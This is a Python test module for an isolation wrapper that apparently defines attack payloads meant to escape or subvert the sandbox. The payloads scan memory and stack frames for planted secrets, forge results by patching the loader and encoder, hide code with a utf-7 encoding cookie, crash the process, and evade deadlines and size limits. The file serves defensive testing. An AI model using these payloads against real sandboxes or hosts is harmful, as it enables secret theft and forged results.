"""Attacks with Python itself: nothing in the interpreter is a wall, so nothing worth having may be in it."""

from __future__ import annotations

from collections.abc import Iterable

from attack import Family, accepted
from outside import World

from wrapper.isolation import Outcome

FAMILY = Family("interpreter", {"open_on": ("naive",), "layers": ("environment",)})
attack = FAMILY.attack


def kept_whole(world: World, outcome: Outcome, token: str) -> Iterable[str]:
    """An error is evidence, and no second way to return megabytes."""
    if len(repr(outcome.error)) > 300_000:
        yield f"an error of {len(repr(outcome.error))} characters"


attack(
    "gc_objects",
    tries="Walks every object the garbage collector knows, frozen ones included, and returns text that looks secret.",
    shows="A planted secret is in the result.",
    body="""
    import gc
    gc.unfreeze()
    found = []
    def look(values, deeper=True):
        for value in values:
            if isinstance(value, (str, bytes)) and "SECRET" in str(value):
                found.append(str(value)[:200])
            elif deeper and isinstance(value, dict):
                look(list(value.values()), False)
            elif deeper and isinstance(value, (list, tuple)):
                look(list(value), False)
    for each in gc.get_objects():
        if isinstance(each, (dict, list, tuple)):
            look(list(each.values() if isinstance(each, dict) else each))
    return found[:50]
    """,
)
attack(
    "frames",
    tries="Climbs the frames of every thread and returns what their variables say.",
    shows="A planted secret is in the result.",
    body="""
    found = []
    for frame in [sys._getframe(), *sys._current_frames().values()]:
        while frame is not None:
            for scope in (frame.f_locals, frame.f_globals, frame.f_builtins):
                found += [repr(value)[:2000] for value in list(scope.values()) if "SECRET" in attempt(repr, value)]
            frame = frame.f_back
    return found[:50]
    """,
)
attack(
    "exception_frames",
    tries="Reaches the frames below itself through the traceback of an exception and a generator.",
    shows="A planted secret is in the result.",
    body="""
    found = []
    try:
        raise ValueError
    except ValueError as error:
        frame = error.__traceback__.tb_frame
    generator = (frame for frame in [None])
    while frame.f_back is not None:
        frame = frame.f_back
        for name in ("CONFIGURATION", "environ", "settings", "secrets"):
            value = frame.f_globals.get(name) or getattr(frame.f_globals.get("os"), name, None)
            found.append(repr(value)[:5000])
    return found
    """,
)
attack(
    "own_memory",
    tries="Reads all memory of its own process, where a fork would still hold what its parent knew.",
    shows="A planted secret is in the result.",
    body="""
    import re
    found = set()
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            area, rights = line.split()[:2]
            if not rights.startswith("rw") or "vvar" in line:
                continue
            start, end = (int(part, 16) for part in area.split("-"))
            if end - start > 1 << 27:
                continue
            def look():
                memory.seek(start)
                for each in re.findall(rb"SECRET-[a-z0-9_]+-[0-9a-f]{24}", memory.read(end - start)):
                    found.add(each.decode())
            attempt(look)
    return sorted(found)[:100]
    """,
)
attack(
    "format_walk",
    tries="Walks from harmless objects to module globals through format strings and subclasses.",
    shows="A planted secret is in the result.",
    body="""
    class Here:
        def method(self): pass
    words = ["{0.method.__globals__}", "{0.__class__.__mro__[1].__subclasses__}"]
    found = [attempt(each.format, Here()) for each in words]
    for each in object.__subclasses__():
        scope = getattr(getattr(each, "__init__", None), "__globals__", None)
        if isinstance(scope, dict) and "sys" in scope:
            for module in list(scope["sys"].modules.values()):
                for name in ("environ", "CONFIGURATION"):
                    if hasattr(module, name):
                        found.append(str(getattr(module, name))[:4000])
    return found[-5:]
    """,
)
attack(
    "pythonapi",
    tries="Rewrites constants of the interpreter through ctypes.pythonapi: None's name, small integers, True.",
    shows="A later attempt, or the host, counts or compares differently.",
    layers=("single use",),
    probed=True,
    body="""
    class Long(ctypes.Structure):
        _fields_ = [("refs", ctypes.c_ssize_t), ("type", ctypes.c_void_p), ("size", ctypes.c_ssize_t), ("digit", ctypes.c_uint32)]
    ctypes.pythonapi.PySys_SetObject(b"ps9", ctypes.py_object(w["token"]))
    setattr(os, w["token"], 1)
    Long.from_address(id(251)).digit = 250
    return 1
    """,
)
attack(
    "isolation_internals",
    tries="Patches the loader, the framing and the encoder found in sys.modules so that every result is its own.",
    shows="The result of a later attempt is forged.",
    layers=("single use",),
    probed=True,
    body="""
    import builtins, json.encoder
    from wrapper.isolation import framing, hotload, channel
    forged = lambda *_, **__: b'"FORGED"'
    hotload._encoded = forged
    framing.encode = forged
    hotload.VerifiedSource.get_code = lambda self, name: compile("def handler(**_): return 'FORGED'", "x", "exec")
    json.dumps = lambda *_, **__: '{"t":"done","value":"FORGED"}'
    builtins.exec = lambda code, scope: scope.update(handler=lambda **_: "FORGED")
    return 1
    """,
)
attack(
    "settrace",
    tries="Installs trace and profile functions for all threads, to see later code run.",
    shows="A later attempt is traced.",
    layers=("single use",),
    probed=True,
    body="""
    def trace(frame, event, argument):
        return trace
    threading.settrace(trace)
    threading.setprofile(trace)
    sys.settrace(trace)
    return 1
    """,
)
attack(
    "audit_hook",
    tries="Adds an audit hook, which cannot be removed, that marks whatever is compiled or imported afterwards.",
    shows="A later attempt finds the marks.",
    layers=("single use",),
    probed=True,
    body="""
    token, module = w["token"], os
    def hook(event, arguments):
        if event in ("compile", "exec", "import"):
            setattr(module, token, event)
    sys.addaudithook(hook)
    return 1
    """,
)
attack(
    "import_hook",
    tries="Puts a finder in front that answers later imports with modules of its own.",
    shows="A later attempt imports a forged module.",
    layers=("single use",),
    probed=True,
    body="""
    class Finder:
        def find_spec(self, name, path, target=None):
            return None
    sys.meta_path.insert(0, Finder())
    sys.path_hooks.insert(0, lambda path: (_ for _ in ()).throw(ImportError))
    sys.path.insert(0, "/tmp/" + w["token"])
    return 1
    """,
)
attack(
    "finalizers",
    tries="Leaves finalizers, atexit hooks and __del__ that send another result when the run is over.",
    shows="A later attempt, or somebody else's, has the forged result.",
    layers=("single use",),
    probed=True,
    body="""
    import atexit, weakref
    def forge(*_):
        send({"t": "done", "value": "FORGED"})
    class Late:
        def __del__(self):
            forge()
    atexit.register(forge)
    threading.Timer(0.05, forge).start()
    return 1
    """,
)
attack(
    "encoding_cookie",
    tries="Declares an encoding in which a comment is a line of code, which a reader of the text does not see.",
    shows="The hidden line ran.",
    layers=("strict text",),
    bare=True,
    body="# coding: utf-7\nran = []\n# +AAo-ran.append('FORGED')\ndef handler(w):\n    return ran\n",
    shown=lambda world, outcome, token: ["the hidden line ran"] if "FORGED" in str(outcome.value) else [],
)
attack(
    "lone_surrogate",
    tries="Is a source text that cannot be encoded.",
    shows="The host fails instead of the run.",
    layers=("strict text",),
    bare=True,
    body="def handler(w):\n    return '\ud800'\n",
)
attack(
    "huge_integer",
    tries="Sends an integer of a hundred thousand digits, which the host's parser refuses or needs minutes for.",
    shows="The host fails or is late.",
    layers=("host's judgement",),
    body="""
    send(b'{"t":"done","value":' + b"9" * 100000 + b"}")
    time.sleep(1)
    """,
)
attack(
    "lying_dict",
    tries="Returns a dict whose items are harmless when checked and not JSON when encoded.",
    shows="The result the host has is not strict JSON.",
    layers=("host's judgement",),
    body="""
    class Lying(dict):
        looks = 0
        def items(self):
            Lying.looks += 1
            return [("a", 1)] if Lying.looks == 1 else [("a", float("nan")), ("a", float("inf"))]
    class Name(str):
        def isascii(self): return True
        def encode(self, *_): return b"x"
    return [Lying(a=float("nan")), {Name("k\\ud800"): Name("\\ud800")}]
    """,
)
attack(
    "deep_recursion",
    tries="Raises the recursion limit and recurses in C until its stack overflows.",
    shows="Another attempt or the zygote dies with it.",
    layers=("single use",),
    body="""
    sys.setrecursionlimit(1 << 30)
    threading.stack_size(1 << 20)
    class Deep:
        def __getattr__(self, name):
            return getattr(self, name)
        def __repr__(self):
            return repr(self)
    thread = threading.Thread(target=lambda: repr(Deep()))
    thread.start()
    thread.join()
    """,
)
attack(
    "null_pointer",
    tries="Writes through a null pointer, so that the whole process crashes.",
    shows="Another attempt or the zygote dies with it.",
    layers=("single use",),
    body="ctypes.memset(0, 1, 1)",
)
attack(
    "endless_catch",
    tries="Catches every exception, also the one that should end it, and goes on for ever.",
    shows="The run does not end at its deadline.",
    layers=("kill",),
    wall=0.4,
    body="""
    while True:
        try:
            while True: time.sleep(9)
        except BaseException:
            pass
    """,
)
attack(
    "stops_itself",
    tries="Stops itself, so that it uses nothing up, ignores what it is told and never ends.",
    layers=("deadline",),
    wall=0.6,
    shows="The run lasts longer than it may.",
    body="os.kill(os.getpid(), signal.SIGSTOP)\ntime.sleep(20)",
)
attack(
    "exit_zero",
    tries="Leaves the process with exit code 0 and no result, as a test that passed would.",
    shows="The host takes it for a success.",
    layers=("host's judgement",),
    shown=accepted,
    body="os._exit(0)",
)
attack(
    "huge_error",
    tries="Raises an exception whose text is ten megabytes, and whose class and representation lie.",
    shows="The host keeps all of it.",
    layers=("host's judgement",),
    shown=kept_whole,
    body="""
    class Loud(Exception):
        def __str__(self): return "x" * (10 << 20)
    raise Loud("y" * (10 << 20))
    """,
)
attack(
    "chain_of_causes",
    tries="Raises an exception with a hundred thousand others behind it, each the cause of the next.",
    shows="The host keeps all of it.",
    layers=("host's judgement",),
    shown=kept_whole,
    wall=20,
    body="""
    last = ValueError("first")
    for number in range(100000):
        following = ValueError(str(number))
        following.__cause__, last = last, following
    raise last
    """,
)
attack(
    "raises_its_own_limit",
    tries="Finds its limits in the frames above it, raises them, and returns more than it may.",
    shows="The host took the large result.",
    shown=accepted,
    body="""
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for each in (value, value.get("limits") if isinstance(value, dict) else None):
                if isinstance(each, dict) and "result_bytes" in each:
                    each["result_bytes"] = 1 << 40
        frame = frame.f_back
    return "x" * (9 << 20)
    """,
)
attack(
    "words_that_never_end",
    tries="Raises an exception whose text is computed for ever, after the handler itself has ended.",
    shows="The run did not end at its deadline.",
    layers=("deadline",),
    wall=0.5,
    body="""
    class Endless(Exception):
        def __str__(self):
            while True: pass
        __repr__ = __str__
    raise Endless()
    """,
)
